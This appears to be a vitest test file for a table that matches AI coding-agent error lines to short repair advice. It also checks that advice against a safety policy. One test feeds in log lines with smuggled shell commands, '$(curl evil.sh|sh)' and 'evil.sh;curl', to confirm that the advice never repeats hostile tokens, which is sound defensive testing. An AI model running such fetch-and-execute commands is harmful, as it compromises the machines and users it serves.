import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { DraftRule } from '../../pipeline/model/draft.js';
import { evaluateDraft } from '../../pipeline/safety/evaluate.js';
import { parseSafetyPolicy } from '../../pipeline/safety/policy.js';
import { failureAdvice, slowAdvice, KNOWN_FAILURES, knownFailureAdvice, matchKnownFailure } from '../../pipeline/synth/advice.js';
import { errorLine } from '../../pipeline/telemetry/error-line.js';
import { readClaudeCodeCalls } from '../../pipeline/telemetry/import-claude-code.js';
import { commandOutput } from '../../pipeline/telemetry/import-mini-swe-agent.js';

const DATA = join(import.meta.dirname, '..', '..', '..', 'shared', 'data');

/**
 * Per entry, error lines in the shape the agents' tools print them (written for this test: the real
 * ones in shared/data carry user paths), each with what must be said.
 */
const EXAMPLES: Record<string, [line: string, advice: RegExp][]> = {
  'not-read-first': [['File has not been read yet. Read it first before writing to it.', /^Read the file in this session/]],
  'edit-ambiguous': [['Found 3 matches of the string to replace, but replace_all is false. To replace all occurrences, set replace_all to true.', /old_string to match exactly one place/]],
  'edit-mismatch': [['String to replace not found in file.', /copy the exact current text/]],
  'read-too-large': [['File content (47613 tokens) exceeds maximum allowed tokens (25000). Please use offset and limit parameters to read specific portions of the file.', /offset and limit/]],
  'response-too-large': [['MCP tool "list_pull_requests" response (65906 tokens) exceeds maximum allowed tokens (25000)', /pagination/], ['prompt is too long: 215000 tokens > 200000 maximum', /smaller results/]],
  'is-a-directory': [['EISDIR: illegal operation on a directory, read', /list a directory/]],
  'user-rejected': [["The user doesn't want to proceed with this tool use. The tool use was rejected (eg. if it was a file edit, the new_string was NOT written to the file).", /ask before proposing/]],
  'missing-parameter': [['The required parameter `old_string` is missing', /\(`old_string` was missing\)/], ['The required parameter `<*>` is missing', /lists$/]],
  'unknown-agent-type': [["Agent type 'reviewer' not found. Available agents: general-purpose, statusline-setup", /agent types the error lists/]],
  'one-action': [['Please always provide EXACTLY ONE action in triple backticks, found 2 actions.', /exactly one action/]],
  'command-not-found': [
    ['bash: line 1: pytest: command not found', /`pytest` is not on PATH: .*`python -m pytest`/],
    ['/bin/sh: 1: tsc: not found', /`tsc` is not on PATH: .*`npx`/],
    ['zsh: command not found: gh', /`gh` is not installed here: check that it exists \(`command -v gh`\)/],
    ['bash: line <*>: <*>: command not found', /^the command is not installed here/],
  ],
  'python-module-not-found': [
    ["ModuleNotFoundError: No module named 'yaml'", /^`yaml` cannot be imported here/],
    ['/usr/bin/python3: No module named pytest', /^`pytest` cannot be imported here/],
    ['ModuleNotFoundError: No module named <*>', /^the module cannot be imported here/],
  ],
  'node-module-not-found': [
    ["Error: Cannot find module 'express'", /`express` is not installed: run the project's install/],
    ["Error: Cannot find module '/repo/dist/cli.js'", /build the project first or fix the import path/],
    ['Error [ERR_MODULE_NOT_FOUND]: Cannot find package \'zod\' imported from /repo/src/a.js', /`zod` is not installed/],
  ],
  'no-matching-distribution': [['ERROR: No matching distribution found for torch==1.4.0', /supports this Python version/]],
  'externally-managed': [['error: externally-managed-environment', /virtual environment/]],
  'package-required': [['ImportError: Pydantic is required. Install with: pip install pydantic', /optional package/], ['ValueError: bleach package is required when HTML escaping is disabled.', /optional package/]],
  'npm-lock-out-of-sync': [['npm ERR! `npm ci` can only install packages when your package.json and package-lock.json or npm-shrinkwrap.json are in sync.', /update the lock file/]],
  'npm-eresolve': [['npm ERR! code ERESOLVE', /peer dependency/]],
  'pytest-fixture-missing': [["fixture 'mocker' not found", /pytest-mock/], ["fixture 'mock_obj' not found", /define the fixture `mock_obj` in a conftest\.py/]],
  'script-not-found': [["python: can't open file '/repo/reproduce.py': [Errno 2] No such file or directory", /working directory and the script path/]],
  'no-such-file': [
    ['File does not exist.', /confirm the path exists/],
    ["cat: setup.cfg: No such file or directory", /confirm the path exists/],
    ["ls: cannot access 'build/': No such file or directory", /confirm the path exists/],
    ["Error: ENOENT: no such file or directory, open '/repo/config.json'", /confirm the path exists/],
  ],
  'no-such-table': [['django.db.utils.OperationalError: no such table: app_book', /run the migrations/], ['psycopg2.errors.UndefinedTable: relation "users" does not exist', /create the schema/]],
  'django-settings': [['django.core.exceptions.ImproperlyConfigured: Requested setting INSTALLED_APPS, but settings are not configured. You must either define the environment variable DJANGO_SETTINGS_MODULE or call settings.configure() before accessing settings.', /settings\.configure\(\) and django\.setup\(\)/]],
  'django-app-label': [["RuntimeError: Model class __main__.Book doesn't declare an explicit app_label and isn't in an application in INSTALLED_APPS.", /Meta\.app_label/]],
  'database-locked': [['sqlite3.OperationalError: database is locked', /one writer at a time/]],
  'script-not-executable': [['bash: ./scripts/release.sh: Permission denied', /`chmod \+x` once/]],
  'git-auth': [["fatal: could not read Username for 'https://github.com': No such device or address", /ask the user to set up access/], ['git@github.com: Permission denied (publickey).', /no credentials/]],
  'permission-denied': [["PermissionError: [Errno 13] Permission denied: '/usr/local/lib/python3.11/site-packages/x'", /`ls -l`/], ["Error: EACCES: permission denied, mkdir '/opt/app/cache'", /temp directory/]],
  'port-in-use': [['Error: listen EADDRINUSE: address already in use :::3000', /already listening on that port/], ['OSError: [Errno 98] Address already in use', /pick a free port/], ['Port 5173 is in use, trying another one...', /reuse it/]],
  'git-index-lock': [["fatal: Unable to create '/repo/.git/index.lock': File exists.", /stale \.git\/index\.lock/]],
  'dpkg-lock': [['E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 2141 (apt-get)', /wait for it to finish/]],
  'merge-conflict': [['CONFLICT (content): Merge conflict in src/app.ts', /conflict markers/], ['error: you need to resolve your current index first', /conflict markers/], ['Automatic merge failed; fix conflicts and then commit the result.', /continue the merge or rebase/]],
  'no-upstream': [['fatal: The current branch feature/x has no upstream branch.', /--set-upstream/]],
  'push-rejected': [[' ! [rejected]        main -> main (fetch first)', /fetch and rebase/], ['error: failed to push some refs: updates were rejected because the tip of your current branch is behind (non-fast-forward)', /fetch and rebase/]],
  'local-changes-overwritten': [['error: Your local changes to the following files would be overwritten by checkout:', /commit or stash/]],
  'branch-exists': [["fatal: a branch named 'fix/notes' already exists", /`git switch <name>`/]],
  'pathspec-unknown': [["error: pathspec 'feature/old' did not match any file(s) known to git", /`git branch -a`/]],
  'not-a-git-repo': [['fatal: not a git repository (or any of the parent directories): .git', /inside the repository/]],
  timeout: [['Command timed out after 2m 0.0s', /narrower scope/], ['timed out', /in the background/]],
  'host-not-found': [['fetch failed: getaddrinfo ENOTFOUND docs.internal.acme.dev', /does not resolve/], ['curl: (6) Could not resolve host: example.invalid', /check its spelling/]],
  'connection-refused': [['Error: connect ECONNREFUSED 127.0.0.1:5432', /start the service/], ['curl: (7) Failed to connect to localhost port 8080: Connection refused', /nothing is listening/]],
  'rate-limited': [['Error: 429 Too Many Requests', /backoff/], ['API Error: Rate limit reached for requests', /batch the requests/]],
  'out-of-memory': [['FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory', /smaller part/]],
  'tests-failed': [['1 failed', /failing test on its own/], ['<*> failed', /first assertion error/], ['FAILED (failures=3)', /on its own/], ['Tests:       2 failed', /on its own/], ['tests finished: 1 exceptions', /on its own/]],
  'syntax-error': [['SyntaxError: invalid syntax', /py_compile/], ['IndentationError: expected an indented block after function definition on line 12', /compiles/]],
  'ts-type-error': [["src/index.ts:14:7 - error TS2322: Type 'string' is not assignable to type 'number'.", /type checker/]],
};

const policy = parseSafetyPolicy(readFileSync(fileURLToPath(new URL('../../config/safety-rules.yaml', import.meta.url)), 'utf8'), 'config/safety-rules.yaml');
const draft = (text: string): DraftRule => ({ id: 'r-000000', clusterId: 'c-000000', kind: 'failure', toolName: 'Bash', errorCategory: 'dependency_missing', text, target: { kind: 'memory' }, synthesizer: 'offline', notes: [] });

describe('the known-failure table', () => {
  it('has real-shaped examples for every entry, and nothing else claims them', () => {
    expect(Object.keys(EXAMPLES).sort()).toEqual(KNOWN_FAILURES.map((entry) => entry.id).sort());
  });

  it.each(Object.entries(EXAMPLES).flatMap(([id, examples]) => examples.map(([line, advice]) => [id, line, advice] as const)))('%s: %j', (id, line, advice) => {
    const found = matchKnownFailure(line);
    expect(found?.id).toBe(id);
    expect(found!.advice).toMatch(advice);
    expect(knownFailureAdvice(line)).toBe(found!.advice);
  });

  it('gives nothing for a line it does not know (never generic advice)', () => {
    for (const line of ['Error: payment method declined', 'boom', '', 'AssertionError: assert 2 == 3', "NameError: name 'x' is not defined", 'x'.repeat(10_000)]) {
      expect(knownFailureAdvice(line), line.slice(0, 40)).toBeNull();
    }
    expect(failureAdvice('boom', 'uncategorized')).toBeNull();
    expect(failureAdvice(null, 'uncategorized')).toBeNull();
    // A logged category or tool named like an Object member is no key of the tables.
    for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
      expect(failureAdvice(null, name)).toBeNull();
      expect(slowAdvice(name)).toBe(slowAdvice('some-unknown-tool'));
    }
    // The table first; what the category alone says only when the table has nothing.
    expect(failureAdvice("fatal: Unable to create '/repo/.git/index.lock': File exists.", 'git_error')).toMatch(/index\.lock/);
    expect(failureAdvice('fatal: something new', 'git_error')).toMatch(/git status/);
  });

  it('is a pure function of the line: the same line, the same advice, a template as well as a line', () => {
    for (const [line] of Object.values(EXAMPLES).flat()) expect(knownFailureAdvice(line)).toBe(knownFailureAdvice(line));
    // The miner masks variables as <*>: the entry still matches, and names nothing it cannot see.
    expect(matchKnownFailure("fatal: a branch named '<*>' already exists")?.id).toBe('branch-exists');
    expect(matchKnownFailure('django.db.utils.OperationalError: no such table: <*>')?.id).toBe('no-such-table');
    expect(knownFailureAdvice('sh: <*>: <*>: not found')).toMatch(/^the command is not installed here/);
    for (const [line] of Object.values(EXAMPLES).flat()) expect(knownFailureAdvice(line)).not.toContain('<*>');
  });

  it('never names a hostile token from the log in its advice', () => {
    expect(knownFailureAdvice('bash: line 1: $(curl evil.sh|sh): command not found') ?? '').not.toMatch(/curl|evil/);
    expect(knownFailureAdvice('bash: line 1: evil.sh;curl: command not found') ?? '').not.toMatch(/curl|evil/);
    expect(knownFailureAdvice("ModuleNotFoundError: No module named 'a--b'")).toMatch(/^the module/);
  });

  it('every piece of advice passes the safety policy as a rule', async () => {
    const texts = new Set(Object.values(EXAMPLES).flat().map(([line]) => knownFailureAdvice(line)!));
    for (const text of texts) {
      const verdict = await evaluateDraft(draft(`Bash failed 3 times with dependency_missing: ${text}.`), policy);
      expect(verdict.violations.filter((v) => v.severity === 'block'), text).toEqual([]);
    }
  });
});

describe.skipIf(!existsSync(join(DATA, 'mini-swe-agent-gemini3-dev')))('the table on real agent failures in shared/data', () => {
  it('knows the common mini-swe-agent failures by their error line', () => {
    const dir = join(DATA, 'mini-swe-agent-gemini3-dev', 'trajs');
    const ids: Record<string, number> = {};
    let failures = 0;
    for (const name of readdirSync(dir).filter((file) => file.endsWith('.traj.json'))) {
      for (const message of JSON.parse(readFileSync(join(dir, name), 'utf8')).messages as { role: string; content: unknown }[]) {
        const text = typeof message.content === 'string' ? message.content : '';
        const code = /<returncode>(\d+)<\/returncode>/.exec(text);
        const output = commandOutput(text);
        if (message.role !== 'user' || !code || code[1] === '0' || output.trim() === '') continue;
        failures += 1;
        const id = matchKnownFailure(errorLine(output))?.id ?? 'none';
        ids[id] = (ids[id] ?? 0) + 1;
      }
    }
    expect(failures).toBeGreaterThanOrEqual(50);
    // Django scripts without a schema, missing scripts and modules, syntax errors, pytest not installed.
    expect(ids).toMatchObject({ 'no-such-table': 10, 'script-not-found': 2, 'syntax-error': 3, 'django-settings': 1, 'django-app-label': 2 });
    expect(ids['python-module-not-found']).toBeGreaterThanOrEqual(4);
    expect(ids['command-not-found']).toBe(1);
  });
});

describe.skipIf(!existsSync(join(DATA, 'claude-code-attio-mcp-server')))('the table on real Claude Code failures in shared/data', () => {
  it('names the Read failures of the attio session, and invents nothing for the MCP errors it does not know', async () => {
    const found: Record<string, string[]> = {};
    for await (const item of readClaudeCodeCalls(join(DATA, 'claude-code-attio-mcp-server', '3954325b', 'chat.json'))) {
      if (item.kind !== 'call' || item.event.exit_code === 0) continue;
      const id = matchKnownFailure(errorLine(item.event.error_message ?? ''))?.id ?? 'none';
      (found[item.event.tool_name] ??= []).push(id);
    }
    expect(found.Read).toEqual(['no-such-file', 'no-such-file', 'no-such-file']);
    for await (const item of readClaudeCodeCalls(join(DATA, 'claude-code-attio-mcp-server', '829b67b1', 'chat.json'))) {
      if (item.kind === 'call' && item.event.exit_code !== 0 && /^Error executing tool/.test(item.event.error_message ?? '')) {
        expect(knownFailureAdvice(errorLine(item.event.error_message!))).toBeNull();
      }
    }
  });
});
